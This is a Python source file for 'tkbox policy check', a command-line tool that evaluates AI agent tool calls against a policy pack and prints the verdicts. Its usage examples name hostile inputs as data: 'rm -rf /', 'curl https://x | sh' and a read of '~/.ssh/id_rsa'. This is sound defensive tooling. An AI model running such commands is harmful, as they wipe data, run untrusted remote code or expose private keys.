"""check_main: ``tkbox policy check`` - see what the policy would decide, recording nothing.

    tkbox policy check --tool Bash --args '{"command": "rm -rf /"}'
    tkbox policy check --tool Bash --args 'curl https://x | sh'      # shell tools: a plain command is fine
    tkbox policy check --file calls.json --json                      # [{"tool": ..., "args": {...}}, ...]
    tkbox policy check --pack ./my-pack.yaml --tool Read --args '{"file_path": "~/.ssh/id_rsa"}'

Exit status: 0 when every call was evaluated (whatever the verdicts), 2 when the input or the pack is
wrong (with a message saying what and what to do). ``--help`` and usage errors behave as argparse
does (SystemExit with 0 or 2).
"""

from __future__ import annotations

import argparse
import json
import sys
from typing import TextIO

from ..signer.client import SignerClient, SignerError
from ..signer.paths import SignerPaths
from .context import PolicyContext, signer_context
from .engine import Verdict, evaluate
from .errors import PolicyError
from .loader import builtin_pack_names, load_pack
from .pack import PolicyPack

PREVIEW_TIMEOUT_SECONDS = 2.0  # how long to wait for a running signer's hello before previewing without its pid


def preview_context() -> tuple[PolicyContext, str]:
    """The context of the signer running for this user (its pid, from its ``hello``), so that the preview is
    its own policy, hash included; without one, the context with no pid.  Also says which it is."""
    paths = SignerPaths.from_env()
    try:
        with SignerClient(paths.socket, timeout=PREVIEW_TIMEOUT_SECONDS) as client:
            pid = client.call("hello").get("pid")
    except (SignerError, OSError, ValueError):
        pid = None
    if type(pid) is not int or pid <= 0:
        return signer_context(paths, None), "no signer answers here: rules naming its pid are left out"
    return signer_context(paths, pid), f"context of the running signer, pid {pid}"

MAX_FILE_BYTES = 64 << 20


class _InputError(Exception):
    """Bad input: the message says what was wrong and what to do."""


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="tkbox policy check",
        description="Evaluate tool calls against a policy pack and print the verdicts. Records nothing.",
        epilog="Exit status: 0 when the calls were evaluated (whatever the verdict), 2 on bad input.",
    )
    parser.add_argument("--pack", default="default", metavar="NAME_OR_PATH",
                        help=f"built-in pack name ({', '.join(builtin_pack_names())}) or path to a pack "
                             "file (default: default)")
    parser.add_argument("--tool", help="tool name, e.g. Bash, Read, WebFetch, mcp__server__tool")
    parser.add_argument("--args", dest="call_args", metavar="JSON",
                        help="the call's arguments as a JSON object; for shell tools a plain command line "
                             "is also accepted")
    parser.add_argument("--file", metavar="PATH",
                        help='a JSON file holding a list of {"tool": ..., "args": {...}} calls ("-" reads stdin)')
    parser.add_argument("--json", action="store_true", help="print JSON (an object for --tool, a list for --file)")
    return parser


def _single_call(pack: PolicyPack, tool: str, raw: str | None) -> tuple[str, object]:
    if raw is None:
        raise _InputError("--tool needs --args (a JSON object, or for a shell tool the command line)")
    try:
        parsed = json.loads(raw)
    except json.JSONDecodeError as error:
        parsed, problem = None, f"--args is not valid JSON ({error.msg} at character {error.pos})"
    else:
        problem = None if isinstance(parsed, dict) else f"--args must be a JSON object, got {type(parsed).__name__}"
    if problem is None:
        return tool, parsed
    if pack.classifier.classify(tool) == "shell":
        return tool, {"command": parsed if isinstance(parsed, str) else raw}
    raise _InputError(f"{problem}; write it like --args '{{\"file_path\": \"README.md\"}}'")


def _file_calls(path: str, stdin: TextIO) -> list[tuple[str, object]]:
    try:
        if path == "-":
            text = stdin.read(MAX_FILE_BYTES + 1)
        else:
            with open(path, encoding="utf-8") as handle:
                text = handle.read(MAX_FILE_BYTES + 1)
    except OSError as error:
        raise _InputError(f"cannot read --file {path!r}: {error.strerror}; check the path") from None
    except UnicodeDecodeError:
        raise _InputError(f"--file {path!r} is not UTF-8 text; save it as UTF-8 JSON") from None
    if len(text) > MAX_FILE_BYTES:
        raise _InputError(f"--file {path!r} is larger than {MAX_FILE_BYTES >> 20} MiB; split it")
    try:
        data = json.loads(text)
    except json.JSONDecodeError as error:
        raise _InputError(f"--file {path!r} is not valid JSON ({error.msg} at line {error.lineno} column "
                          f"{error.colno}); it must be a list of {{\"tool\": ..., \"args\": {{...}}}}") from None
    if not isinstance(data, list):
        raise _InputError(f"--file {path!r} must hold a JSON list of calls, got {type(data).__name__}; "
                          'write [{"tool": "Bash", "args": {"command": "ls"}}]')
    calls = []
    for index, item in enumerate(data):
        if not isinstance(item, dict) or not isinstance(item.get("tool"), str) or "args" not in item:
            raise _InputError(f"--file {path!r}: call [{index}] must be an object with a string \"tool\" and "
                              f"\"args\"; write {{\"tool\": \"Bash\", \"args\": {{\"command\": \"ls\"}}}}")
        calls.append((item["tool"], item["args"]))
    return calls


def _as_json(tool: str, verdict: Verdict, pack: PolicyPack, signer_pid: int | None) -> dict:
    return {"tool": tool, "tool_class": verdict.tool_class, "verdict": verdict.verdict,
            "rule_ids": list(verdict.rule_ids), "reason": verdict.reason, "hint": verdict.hint,
            "findings": list(verdict.findings), "pack": pack.name, "policy_hash": pack.policy_hash,
            "signer_pid": signer_pid}


def _as_text(tool: str, verdict: Verdict) -> str:
    ids = " ".join(verdict.rule_ids) if verdict.rule_ids else "-"
    lines = [f"{tool} ({verdict.tool_class}): {verdict.verdict}  [{ids}]", f"  reason: {verdict.reason}"]
    if verdict.hint:
        lines.append(f"  hint: {verdict.hint}")
    for finding in verdict.findings[1:]:
        lines.append(f"  also: {finding['rule_id']} {finding['verdict']}: {finding['reason']}")
    return "\n".join(lines)


def check_main(argv: list[str], stdout: TextIO | None = None, stderr: TextIO | None = None,
               stdin: TextIO | None = None) -> int:
    """Run ``tkbox policy check`` with ``argv`` (the words after ``check``); returns the exit status."""
    out, err = stdout or sys.stdout, stderr or sys.stderr
    options = _parser().parse_args(argv)
    try:
        if (options.tool is None) == (options.file is None):
            raise _InputError("give either --tool (with --args) or --file, not both or neither; see --help")
        if options.file is not None and options.call_args is not None:
            raise _InputError("--args goes with --tool; with --file each call carries its own args")
        context, context_note = preview_context()
        pack = load_pack(options.pack, context)
        if options.file is not None:
            calls = _file_calls(options.file, stdin or sys.stdin)
        else:
            calls = [_single_call(pack, options.tool, options.call_args)]
    except PolicyError as error:
        print(f"tkbox policy check: error: {error}", file=err)
        return 2
    except _InputError as error:
        print(f"tkbox policy check: error: {error}", file=err)
        return 2
    results = [(tool, evaluate(pack, tool, args)) for tool, args in calls]  # type: ignore[arg-type]
    if options.json:
        documents = [_as_json(tool, verdict, pack, context.signer_pid) for tool, verdict in results]
        payload = documents if options.file is not None else documents[0]
        print(json.dumps(payload, indent=2, ensure_ascii=False), file=out)
    else:
        print(f"pack {pack.name} {pack.policy_hash} (nothing recorded; {context_note})", file=out)
        for tool, verdict in results:
            print(_as_text(tool, verdict), file=out)
    return 0
